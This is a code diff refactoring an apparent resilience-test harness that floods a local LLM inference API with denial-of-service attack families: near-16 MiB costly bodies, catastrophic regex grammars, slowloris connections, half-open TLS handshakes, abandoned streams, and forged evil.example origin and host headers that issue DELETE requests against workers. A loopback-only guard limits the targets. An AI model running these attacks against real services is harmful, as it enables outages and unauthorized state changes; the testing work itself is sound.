@@ -13,44 +13,21 @@ import random
 import socket
 import sys
 import time
-from collections import Counter
 from collections.abc import Callable, Coroutine
-from dataclasses import dataclass, field
 from ipaddress import ip_address
 from typing import Any
+
+from bench import insider
+from bench.target import Target
 
 HALF_OPEN = 200  # connections to each port at a time
 IDLE_HTTP = 200
 
 
-@dataclass(slots=True)
-class Siege:
-    """Whom to attack until when (time.monotonic)."""
-
-    api: str
-    ticket: str
-    addresses: list[str]
-    until: float
-    counts: dict[str, Counter[str]] = field(default_factory=dict)
-
-    @property
-    def is_over(self) -> bool:
-        return time.monotonic() >= self.until
-
-    def count(self, family: str, answer: str = "") -> None:
-        """One attempt of `family`, or one answer to it."""
-        self.counts.setdefault(family, Counter())[answer or "attempts"] += 1
-
-    @property
-    def host(self) -> tuple[str, int]:
-        host, port = self.api.removeprefix("http://").rsplit(":", 1)
-        return host, int(port)
-
-
-async def post(siege: Siege, family: str, path: str, body: bytes, *, headers: str = "", method: str = "POST") -> None:
+async def post(target: Target, family: str, path: str, body: bytes, *, headers: str = "", method: str = "POST") -> None:
     """One request; its status is counted. A connection that breaks or is silent for a minute counts as such."""
-    siege.count(family)
-    host, port = siege.host
+    target.count(family)
+    host, port = target.host
     content = "" if "content-type" in headers else "content-type: application/json\r\n"
     named = "" if "host:" in headers.lower() else f"host: {host}:{port}\r\n"
     head = (
@@ -62,11 +39,11 @@ async def post(siege: Siege, family: str, path: str, body: bytes, *, headers: st
             with contextlib.closing(writer):
                 writer.write(head.encode() + body)
                 line = await reader.readline()
-                siege.count(family, line[9:12].decode() or "closed")
+                target.count(family, line[9:12].decode() or "closed")
                 while await reader.read(1 << 16):
                     pass
     except OSError:  # TimeoutError too
-        siege.count(family, "broken")
+        target.count(family, "broken")
 
 
 def completion(**fields: Any) -> bytes:
@@ -86,7 +63,7 @@ def tool_of(parameters: str) -> bytes:
     return chat(tools=[tool]).replace(marker.encode(), parameters.encode())
 
 
-async def costly_bodies(siege: Siege) -> None:
+async def costly_bodies(target: Target) -> None:
     """Bodies just below 16 MiB that cost much to parse, check or tokenise, one after the other."""
     ids = list(range(250))
     texts = {
@@ -100,17 +77,17 @@ async def costly_bodies(siege: Siege) -> None:
         "bias": lambda: completion(prompt="x", logit_bias={str(i): 1 for i in range(300_000)}),
         "stops": lambda: completion(prompt="x", stop=["s"] * 500_000),
     }
-    while not siege.is_over:
+    while not target.is_over:
         for name, make in texts.items():
             path = "/v1/chat/completions" if name in ("parts", "arrays", "deep", "message") else "/v1/completions"
             body = await asyncio.to_thread(make)
-            await post(siege, "costly_bodies", path, body)
-            if siege.is_over:
+            await post(target, "costly_bodies", path, body)
+            if target.is_over:
                 return
             await asyncio.sleep(0.5)
 
 
-async def costly_grammars(siege: Siege) -> None:
+async def costly_grammars(target: Target) -> None:
     """Grammars and templates that take long to compile, from clients that leave at once."""
     pattern = {"type": "string", "pattern": "(a|b)*a(a|b){12}"}
     schemas = [
@@ -119,49 +96,51 @@ async def costly_grammars(siege: Siege) -> None:
         {"type": "object", "properties": {f"p{i}": {"type": "string"} for i in range(2000)}},
         {"type": "string", "pattern": "(((a{1,50}){1,50}){1,50})b"},
     ]
-    host, port = siege.host
-    while not siege.is_over:
+    host, port = target.host
+    while not target.is_over:
         schema = random.choice(schemas)
         form = {"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}
         body = chat(response_format=form)
-        siege.count("costly_grammars")
+        target.count("costly_grammars")
         with contextlib.suppress(OSError):
             _, writer = await asyncio.open_connection(host, port)
             head = f"POST /v1/chat/completions HTTP/1.1\r\nhost: {host}:{port}\r\ncontent-type: application/json\r\n"
             writer.write(f"{head}content-length: {len(body)}\r\n\r\n".encode() + body)
             await asyncio.sleep(0.05)
             writer.close()
-            siege.count("costly_grammars", "left")
+            target.count("costly_grammars", "left")
         await asyncio.sleep(0.2)
 
 
-async def foreign_pages(siege: Siege) -> None:
+async def foreign_pages(target: Target) -> None:
     """What a web page could send: other origins, other hosts, no JSON, paths that change state."""
     evil = "origin: http://evil.example\r\n"
-    while not siege.is_over:
+    while not target.is_over:
         await post(
-            siege,
+            target,
             "foreign_pages",
             "/v1/completions",
             completion(prompt="x"),
             headers=evil + "content-type: text/plain\r\n",
         )
         rebound = "host: evil.example:80\r\norigin: http://evil.example:80\r\n"
-        await post(siege, "foreign_pages", "/api/workers/b?force=true", b"", headers=rebound, method="DELETE")
-        await post(siege, "foreign_pages", "/api/workers/b/readmit", b"", headers=evil + "content-type: text/plain\r\n")
-        await post(siege, "foreign_pages", "/api/workers/c?force=true", b"", headers=evil, method="DELETE")
-        await post(siege, "foreign_pages", "/api/workers/b?force=true", b"", method="DELETE")
+        await post(target, "foreign_pages", "/api/workers/b?force=true", b"", headers=rebound, method="DELETE")
+        await post(
+            target, "foreign_pages", "/api/workers/b/readmit", b"", headers=evil + "content-type: text/plain\r\n"
+        )
+        await post(target, "foreign_pages", "/api/workers/c?force=true", b"", headers=evil, method="DELETE")
+        await post(target, "foreign_pages", "/api/workers/b?force=true", b"", method="DELETE")
         await asyncio.sleep(0.5)
 
 
-async def slow_clients(siege: Siege) -> None:
+async def slow_clients(target: Target) -> None:
     """Connections to the API that send half a request and wait."""
-    host, port = siege.host
+    host, port = target.host
     held: list[asyncio.StreamWriter] = []
     try:
-        while not siege.is_over:
+        while not target.is_over:
             with contextlib.suppress(OSError):
-                siege.count("slow_clients")
+                target.count("slow_clients")
                 _, writer = await asyncio.open_connection(host, port)
                 writer.write(b"POST /v1/completions HTTP/1.1\r\ncontent-length: 1000\r\n")
                 held.append(writer)
@@ -173,12 +152,12 @@ async def slow_clients(siege: Siege) -> None:
             writer.close()
 
 
-async def leaving_clients(siege: Siege) -> None:
+async def leaving_clients(target: Target) -> None:
     """Streams whose clients leave after a moment, four at a time."""
-    host, port = siege.host
+    host, port = target.host
 
     async def one() -> None:
-        siege.count("leaving_clients")
+        target.count("leaving_clients")
         with contextlib.suppress(OSError):
             reader, writer = await asyncio.open_connection(host, port)
             body = completion(prompt="Once upon a time", max_tokens=200, stream=True, n=2)
@@ -190,22 +169,22 @@ async def leaving_clients(siege: Siege) -> None:
                         pass
             writer.transport.abort()
 
-    while not siege.is_over:
+    while not target.is_over:
         await asyncio.gather(*(one() for _ in range(4)))
         await asyncio.sleep(0.5)
 
 
-async def half_open(siege: Siege) -> None:
+async def half_open(target: Target) -> None:
     """TLS connections to every node that send six bytes of a ClientHello and wait; closed ones are replaced."""
     hello = bytes.fromhex("160301020001")
-    held: dict[str, list[socket.socket]] = {address: [] for address in siege.addresses}
+    held: dict[str, list[socket.socket]] = {address: [] for address in target.addresses}
     loop = asyncio.get_running_loop()
     try:
-        while not siege.is_over:
+        while not target.is_over:
             for address, sockets in held.items():
                 host, port = address.rsplit(":", 1)
                 for _ in range(20):
-                    siege.count("half_open")
+                    target.count("half_open")
                     sock = socket.socket()
                     sock.setblocking(False)
                     try:
@@ -213,7 +192,7 @@ async def half_open(siege: Siege) -> None:
                             await loop.sock_connect(sock, (host, int(port)))
                             await loop.sock_sendall(sock, hello)
                     except OSError:
-                        siege.count("half_open", "refused")
+                        target.count("half_open", "refused")
                         sock.close()
                         continue
                     sockets.append(sock)
@@ -226,7 +205,7 @@ async def half_open(siege: Siege) -> None:
                 sock.close()
 
 
-FAMILIES: list[Callable[[Siege], Coroutine[Any, Any, None]]] = [
+FAMILIES: list[Callable[[Target], Coroutine[Any, Any, None]]] = [
     costly_bodies,
     costly_grammars,
     foreign_pages,
@@ -237,14 +216,14 @@ FAMILIES: list[Callable[[Siege], Coroutine[Any, Any, None]]] = [
 
 
 async def attack(order: dict[str, Any]) -> dict[str, dict[str, int]]:
-    siege = Siege(order["api"], order["ticket"], order["addresses"], time.monotonic() + order["seconds"])
-    for host in [siege.host[0], *(address.rsplit(":", 1)[0] for address in siege.addresses)]:
+    target = Target(order["api"], order["ticket"], order["addresses"], time.monotonic() + order["seconds"])
+    for host in [target.host[0], *(address.rsplit(":", 1)[0] for address in target.addresses)]:
         if not ip_address(host).is_loopback:
             raise SystemExit(f"{host} is not on loopback: attackers attack this machine only")
     async with asyncio.TaskGroup() as group:
-        for family in FAMILIES:
-            group.create_task(family(siege))
-    return {family: dict(counts) for family, counts in siege.counts.items()}
+        for family in [*FAMILIES, *insider.FAMILIES]:
+            group.create_task(family(target))
+    return {family: dict(counts) for family, counts in target.counts.items()}
 
 
 if __name__ == "__main__":
